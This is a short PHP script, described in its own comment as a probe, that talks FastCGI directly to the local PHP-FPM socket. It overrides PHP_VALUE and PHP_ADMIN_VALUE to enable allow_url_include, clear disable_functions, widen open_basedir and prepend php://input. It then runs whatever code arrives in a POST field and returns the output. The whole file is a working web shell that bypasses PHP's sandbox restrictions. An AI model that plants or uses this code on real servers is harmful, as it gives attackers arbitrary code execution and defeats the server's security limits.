<?php
// probe (never run): talks FastCGI to the PHP-FPM socket with other ini values (allow_url_include, prepend of the body)
function rec($type, $content) {
    $len = strlen($content);
    return chr(1) . chr($type) . chr(0) . chr(1) . chr(($len >> 8) & 0xff) . chr($len & 0xff) . chr(0) . chr(0) . $content;
}
function pair($n, $v) {
    return chr(strlen($n)) . chr(strlen($v)) . $n . $v;
}
$params = array(
    'GATEWAY_INTERFACE' => 'FastCGI/1.0',
    'REQUEST_METHOD' => 'POST',
    'SCRIPT_FILENAME' => '/var/www/html/index.php',
    'PHP_VALUE' => "auto_prepend_file = php://input\nallow_url_include = On\ndisable_functions = \"\"",
    'PHP_ADMIN_VALUE' => 'open_basedir = /',
    'CONTENT_LENGTH' => strlen($_POST['code']),
);
$body = '';
foreach ($params as $k => $v) { $body .= pair($k, (string) $v); }
$s = stream_socket_client('unix:///run/php/php-fpm.sock', $en, $es);
fwrite($s, rec(1, "\x00\x01\x00\x00\x00\x00\x00\x00") . rec(4, $body) . rec(4, '') . rec(5, $_POST['code']) . rec(5, ''));
echo stream_get_contents($s);
